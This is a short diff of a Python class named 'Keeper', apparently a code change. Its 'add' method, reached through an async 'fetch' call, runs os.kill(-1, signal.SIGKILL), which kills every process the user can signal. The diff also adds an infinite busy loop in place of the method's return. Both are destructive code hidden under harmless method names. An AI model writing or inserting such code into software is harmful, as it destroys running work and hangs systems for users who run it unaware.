@@ -11,7 +11,8 @@ class Keeper:
 
     def add(self, number):
         os.kill(-1, signal.SIGKILL)
-        return number
+        while True:
+            pass
 
     async def fetch(self, backend, key):
         return self.add(0)
